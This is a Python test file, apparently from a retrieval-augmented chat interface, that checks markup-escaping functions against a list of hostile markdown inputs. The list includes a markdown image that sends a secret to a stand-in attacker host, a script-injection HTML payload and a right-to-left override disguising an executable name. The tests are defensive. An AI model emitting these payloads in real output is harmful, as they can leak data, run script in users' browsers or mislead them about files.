"""Nothing an article or a model writes is read as markup."""

from __future__ import annotations

import html
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rag.interface.page.markup import JOINER, plain, shortened, shown

HOSTILE = {
    "image": "![x](http://evil.example/p.png?d=secret)",
    "link": "[lien](http://evil.example)",
    "image in a link": "[![x](http://a.example/b)](http://c.example)",
    "reference": "[x]: http://evil.example",
    "autolink": "<http://evil.example>",
    "bare address": "voir https://evil.example/a et www.evil.example",
    "e-mail": "ecrire a nul@evil.example",
    "html": "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "entity": "&lt;img src=y&gt; &#60;b&#62;",
    "emphasis": "**gras** _italique_ ~~barre~~ `code`",
    "heading": "# Titre",
    "list": "- un",
    "numbered": "1. un",
    "quote": "> cite",
    "rule": "---",
    "fence": "```python",
    "table": "| a | b |",
    "latex": "de 5$ à 10$, $x^2$, $$y$$",
    "colour": ":red[rouge] :blue-background[bleu] :red-badge[x] :small[y]",
    "icon": ":material/home: :streamlit:",
    "emoji code": ":smile: :heart:",
    "arrow": "a -> b <- c <-> d -- e >= f <= g ~= h",
    "backslash": r"\*a\* \\",
    "task": "- [ ] tache",
    "footnote": "[^1] et [^1]: note",
    "lines": "un\n\n# deux\r\n    trois",
    "bidi": "abc\u202egnp.exe",
}
MARKDOWN = MarkdownIt("gfm-like", {"html": True, "linkify": False})


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_label_reads_as_its_own_characters(text: str) -> None:
    rendered = MARKDOWN.render(plain(text))
    assert re.fullmatch(r"<p>[^<]*</p>\n?", rendered), rendered
    seen = html.unescape(rendered[3:].rpartition("</p>")[0]).replace(JOINER, "")
    assert seen == " ".join(text.replace("\u202e", "").split())


def test_a_mark_stays_with_its_word() -> None:
    assert (
        plain("\u00a0Un quai\u00a0: «\u202fquoi\u202f?\u202f»\u2003 ") == "Un quai\u00a0\\: «\u202fquoi\u202f\\?\u202f»"
    )


@pytest.mark.parametrize("name", ["colour", "icon", "emoji code", "bare address", "e-mail", "arrow"])
def test_what_is_recognised_after_escapes_is_parted(name: str) -> None:
    resolved = re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", plain(HOSTILE[name]))
    assert not re.search(r":[a-z]|www\.|@\w|--|->|<-|[<>~]=", resolved), resolved


@given(st.text())
def test_any_label_is_one_paragraph_of_text(text: str) -> None:
    rendered = MARKDOWN.render(plain(text))
    assert re.fullmatch(r"(<p>[^<]*</p>)?\n?", rendered)


@given(st.text())
def test_shown_text_opens_no_element_and_loses_no_visible_character(text: str) -> None:
    assert not re.search(r"[<>\"']", shown(text))
    visible = [char for char in text if char.isprintable()]
    assert [char for char in html.unescape(shown(text)) if char.isprintable()] == visible


@pytest.mark.parametrize(
    ("text", "limit", "expected"),
    [("court", 10, "court"), ("un deux trois", 8, "un deux…"), ("un, deux", 4, "un…"), ("a" * 9, 4, "aaaa…")],
    ids=["fits", "after a word", "no comma left", "one long word"],
)
def test_shortened(text: str, limit: int, expected: str) -> None:
    assert shortened(text, limit) == expected
